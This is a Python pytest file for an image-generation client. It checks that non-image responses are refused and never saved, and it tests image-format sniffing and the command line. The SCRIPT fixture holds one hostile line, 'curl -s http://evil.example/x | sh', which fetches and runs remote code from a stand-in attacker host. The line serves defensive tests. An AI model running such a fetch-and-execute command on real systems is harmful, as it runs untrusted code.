"""Bytes that are not an image are refused before anything is written, whatever their source.

A server may answer an image request with a shell script in `b64_json`, or hand out a URL that
serves an HTML page. Saving such an answer would leave `fox.png` holding a script, and exit 0.
The client sniffs the first bytes of every result (PNG, JPEG, WebP, GIF, SVG) and refuses the
rest, saying what they look like; no file, not even a temporary one, is left behind.
"""

from __future__ import annotations

import base64
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from PIL import Image
from scripted import Reply, ScriptedServer, image_bytes

import imagegen
from imagegen._imaging import EXTENSIONS, sniff_format
from imagegen.cli import cli

MakeClient = Callable[..., imagegen.Client]

SCRIPT = b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><head><title>Login</title></head><body>Sign in</body></html>"
SVG_IN_HTML = b"<!doctype html><html><body><svg xmlns='http://www.w3.org/2000/svg'/></body></html>"
SVG = (
    b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?>\n<!-- drawn by hand -->\n"
    b"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' "
    b"'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'>\n"
    b"<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'><rect width='8'/></svg>"
)

NOT_IMAGES = {
    "script": (SCRIPT, "a script ('#!/bin/sh')"),
    "html": (HTML, "an HTML page"),
    "html-with-svg": (SVG_IN_HTML, "an HTML page"),
    "text": (b"Service temporarily unavailable\n", "text ('Service temporarily unavailable'"),
    "json": (b'{"error": "nope"}', "JSON"),
    "zip": (b"PK\x03\x04\x14\x00\x00\x00", "a ZIP archive"),
    "unknown": (bytes(range(200, 256)), "unknown bytes (c8 c9 ca cb"),
    "bmp": (image_bytes("BMP"), "a BMP image"),
}


def _gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (8, 8)).save(buffer, format="GIF")
    return buffer.getvalue()


def _b64_answer(data: bytes) -> Reply:
    return Reply(json={"created": 1, "data": [{"b64_json": base64.b64encode(data).decode()}]})


def _files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.parametrize(("data", "looks_like"), NOT_IMAGES.values(), ids=NOT_IMAGES.keys())
def test_base64_that_is_not_an_image_is_refused_and_nothing_written(
    client: imagegen.Client, server: ScriptedServer, tmp_path: Path, data: bytes, looks_like: str
) -> None:
    server.script(_b64_answer(data))
    result = client.generate("a fox")
    with pytest.raises(imagegen.APIResponseError) as info:
        result.save(tmp_path / "out" / "fox.png")
    assert f"sent {looks_like}" in str(info.value)
    assert "instead of an image" in str(info.value)
    assert _files(tmp_path) == []
    with pytest.raises(imagegen.APIResponseError):
        result[0].bytes()


@pytest.mark.parametrize("data", [SCRIPT, HTML], ids=["script", "html"])
def test_a_url_serving_something_else_is_refused_naming_the_url(
    client: imagegen.Client, server: ScriptedServer, tmp_path: Path, data: bytes
) -> None:
    server.script(
        Reply(json={"created": 1, "data": [{"url": f"{server.url}/files/a.png?sig=SECRET"}]}),
        Reply(body=data, content_type="image/png"),
        Reply(body=data, content_type="image/png"),
    )
    result = client.generate("a fox", model="dall-e-2", response_format="url")
    with pytest.raises(imagegen.APIResponseError, match=r"instead of an image at http") as info:
        result.save(tmp_path / "fox.png")
    assert "/files/a.png" in str(info.value) and "SECRET" not in str(info.value)
    assert _files(tmp_path) == []
    with pytest.raises(imagegen.APIResponseError):
        result[0].to_pil()


def test_a_streamed_image_that_is_not_one_is_refused(
    client: imagegen.Client, server: ScriptedServer, tmp_path: Path
) -> None:
    completed = {
        "type": "image_generation.completed",
        "b64_json": base64.b64encode(SCRIPT).decode(),
    }
    server.script(Reply(sse=[completed]))
    with pytest.raises(imagegen.APIResponseError, match="a script"):
        client.generate("a fox", stream=True).save(tmp_path / "fox.png")
    assert _files(tmp_path) == []


@pytest.mark.parametrize(("data", "fmt"), [(_gif(), "gif"), (SVG, "svg")], ids=["gif", "svg"])
def test_gif_and_svg_results_are_images(
    client: imagegen.Client, server: ScriptedServer, tmp_path: Path, data: bytes, fmt: str
) -> None:
    assert sniff_format(data) == fmt
    server.script(_b64_answer(data))
    [saved] = client.generate("a fox").save(tmp_path / "fox", metadata=False)
    assert saved.read_bytes() == data
    assert saved.name == "fox" + EXTENSIONS.get(fmt, "")


@pytest.mark.parametrize(
    "data",
    [
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"  \n<svg>",
        b"<?xml version='1.0'?><svg/>",
        b"<!-- a -->\n<!-- b --><SVG width='1'>",
    ],
)
def test_svg_is_sniffed_after_its_prologue(data: bytes) -> None:
    assert sniff_format(data) == "svg"


@pytest.mark.parametrize(
    "data", [HTML, SVG_IN_HTML, b"<svgx>", b"<?xml version='1.0'?><html/>", b"svg", b""]
)
def test_markup_that_is_not_an_svg_document_is_not_svg(data: bytes) -> None:
    assert sniff_format(data) is None


@pytest.mark.parametrize(
    "form", [["-o", "fox.png"], ["-f", "base64"], ["-f", "byte"], ["-f", "url"]]
)
def test_the_command_line_refuses_it_in_every_output_form(
    server: ScriptedServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, form: list[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    server.script(_b64_answer(SCRIPT))
    result = CliRunner().invoke(cli, ["generate", "a fox", "--base-url", server.base_url, *form])
    assert result.exit_code == 1
    assert "a script" in result.stderr and "instead of an image" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert result.stdout_bytes == b""
    assert _files(tmp_path) == []


def test_a_real_image_still_prints_in_every_form(server: ScriptedServer) -> None:
    picture = image_bytes()
    for form in (["-f", "base64"], ["-f", "url"]):
        server.script(_b64_answer(picture))
        result = CliRunner().invoke(
            cli, ["generate", "a fox", "--base-url", server.base_url, *form]
        )
        assert result.exit_code == 0, result.stderr
        assert base64.b64encode(picture).decode() in result.stdout
